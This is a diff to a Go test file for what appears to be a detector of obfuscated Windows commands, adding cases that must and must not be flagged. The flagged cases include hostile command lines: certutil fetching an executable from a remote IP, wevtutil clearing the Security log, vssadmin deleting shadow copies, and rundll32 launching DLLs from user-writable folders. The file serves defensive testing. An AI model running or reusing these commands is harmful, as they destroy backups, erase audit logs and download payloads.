@@ -77,6 +77,8 @@ func TestWindowsWrapping(t *testing.T) {
 		"quoted set, or operator":   `set "w1=wev"|| set "w2=tutil"|| %w1%%w2% cl Security`,
 		"cmd /c of joined":          `cmd.exe /c "set u=cert&& set v=util&& %u%%v% -urlcache -f http://198.51.100.9/k k.exe"`,
 		"delayed under /v:on":       `cmd /v:on /c "set u=vssad&& set v=!u!min&& !v! delete shadows /all"`,
+		"child cmd inherits":        `set t1=vss&& set t2=admin&& cmd.exe /c %t1%%t2% delete shadows /all /quiet`,
+		"argument from same line":   `set what=shadows& vssadmin.exe delete %what% /all /quiet`,
 		"powershell cmd rundll32":   `powershell -c "cmd /c rundll32 C:\Users\Public\svc.dll,Go"`,
 		"powershell rundll32 space": `powershell.exe -nop -c "rundll32.exe C:\ProgramData\m.dll, Run"`,
 		"powershell cmd ordinal":    `pwsh -c "cmd.exe /c rundll32 tool,EntryPoint"`,
@@ -90,6 +92,8 @@ func TestWindowsWrapping(t *testing.T) {
 	mustNot := []string{
 		`set name=world& echo hello %name%`,
 		`set out=build\bin&& mkdir %out%&& go build -o %out%\app.exe .`,
+		`set cfg=Release&& msbuild app.sln /p:Configuration=%cfg% /m`,
+		`set PORT=8080&& npm start -- --port %PORT%`,
 		`powershell -c "rundll32 shell32.dll,Control_RunDLL desk.cpl"`,
 		`powershell -c "cmd /c rundll32 printui.dll,PrintUIEntry /?"`,
 		`powershell -c "Get-Process -Name notepad,calc | Select-Object Id,Name"`,
